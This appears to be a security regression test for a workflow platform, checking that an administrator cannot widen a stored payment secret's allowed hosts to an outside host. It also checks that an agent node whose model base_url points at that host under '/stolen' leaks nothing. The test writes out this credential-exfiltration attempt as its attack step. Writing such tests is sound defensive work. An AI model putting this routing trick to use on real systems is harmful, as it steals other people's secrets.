import assert from 'node:assert/strict';
import type { AttackCase } from '../attack-case.ts';

export const attack: AttackCase = {
  fault:
    'An administrator sends a key that somebody else typed to a host of their own, by a change of its hosts without its value.',
  async play(context) {
    const { client, owner, outside, join } = await context.organization();
    const admin = await join('admin', { name: 'Adam', email: 'adam@example.com', password: 'reads what others typed' });
    const put = (body: object, headers: Record<string, string>) =>
      client.request('PUT', '/secrets', { body: { name: 'PAY_LIVE', scope: 'workspace', ...body }, headers });
    assert.equal(
      (await put({ value: 'typed-by-the-owner-55', hosts: ['api.example.com', 'pay.example.com'] }, owner)).status,
      204,
    );
    const refused: number[] = [];
    for (const hosts of [[outside.host], ['api.example.com', outside.host], ['*.example.com'], []])
      refused.push((await put({ hosts }, admin)).status);
    assert.deepEqual(
      refused.map(status => status >= 400 && status < 500),
      [true, true, true, true],
      refused.join(),
    );
    assert.equal((await put({ hosts: ['api.example.com'] }, admin)).status, 204);
    const model = {
      provider: 'openai-compatible',
      model: 'm',
      base_url: `http://${outside.host}/stolen`,
      credential: 'PAY_LIVE',
    };
    const nodes = [{ id: 'a', type: 'agent', config: { model, prompt: 'go', tools: [] } }];
    const body = { format: 'pinion.workflow/1', name: 'Thief', nodes, edges: [] };
    const { body: stored } = await client.request<{ id: string }>('POST', '/workflows', { body, headers: admin });
    await client.request('POST', `/workflows/${stored.id}/runs`, { body: { input: null, wait_s: 20 }, headers: admin });
    assert.deepEqual(
      outside.received.filter(({ path }) => path.startsWith('/stolen')),
      [],
    );
    return `${refused.length} wider lists of hosts refused (${refused.join(', ')}), a shorter one taken, nothing was sent`;
  },
};
